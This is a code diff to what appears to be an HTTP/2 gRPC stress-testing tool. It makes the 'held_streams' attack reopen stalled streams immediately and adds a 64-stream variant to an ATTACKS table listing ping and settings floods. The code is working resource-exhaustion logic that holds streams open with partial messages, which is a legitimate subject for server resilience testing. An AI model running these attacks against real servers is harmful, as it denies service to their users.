@@ -131,7 +131,7 @@ def _until_blocked(sock: socket.socket, data: bytes, stop: threading.Event) -> N
 def held_streams(streams: int) -> Callable[[str, str, threading.Event, str | None], None]:
     """Up to `streams` calls on one connection (as many as the server's MAX_CONCURRENT_STREAMS allows), each kept
     alive by an empty DATA frame every 0.5 s and never finishing its message; each call the server ends is opened
-    again, until `stop`."""
+    again at once, until `stop`."""
     return functools.partial(_held_streams, streams)
 
 
@@ -142,16 +142,19 @@ def _held_streams(streams: int, target: str, source: str, stop: threading.Event,
     sock.sendall(h2c.data_to_send())
     sock.settimeout(0.1)
     held: set[int] = set()
+
+    def reopen() -> None:
+        while len(held) < streams:
+            try:
+                stream = h2c.get_next_available_stream_id()
+                h2c.send_headers(stream, grpc_headers(target, token))
+            except h2.exceptions.TooManyStreamsError:
+                return
+            h2c.send_data(stream, b"\x00\x00\x00\x00\x10")  # a 16-byte message declared, none of it sent
+            held.add(stream)
     try:
         while not stop.is_set():
-            while len(held) < streams:
-                try:
-                    stream = h2c.get_next_available_stream_id()
-                    h2c.send_headers(stream, grpc_headers(target, token))
-                except h2.exceptions.TooManyStreamsError:
-                    break
-                h2c.send_data(stream, b"\x00\x00\x00\x00\x10")  # a 16-byte message declared, none of it sent
-                held.add(stream)
+            reopen()
             for stream in held:
                 h2c.send_data(stream, b"")
             sock.sendall(h2c.data_to_send())
@@ -166,6 +169,7 @@ def _held_streams(streams: int, target: str, source: str, stop: threading.Event,
                 for event in h2c.receive_data(data):
                     if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                         held.discard(event.stream_id)
+                reopen()
                 sock.sendall(h2c.data_to_send())
     except (OSError, h2.exceptions.ProtocolError):
         return
@@ -180,6 +184,7 @@ ATTACKS: dict[str, tuple[Callable[[str, str, threading.Event, str | None], None]
     "ping_flood": (ping_flood, 2),
     "settings_flood": (settings_flood, 2),
     "held_streams": (held_streams(100), 16),
+    "held_streams_64": (held_streams(64), 64),
 }
 
 
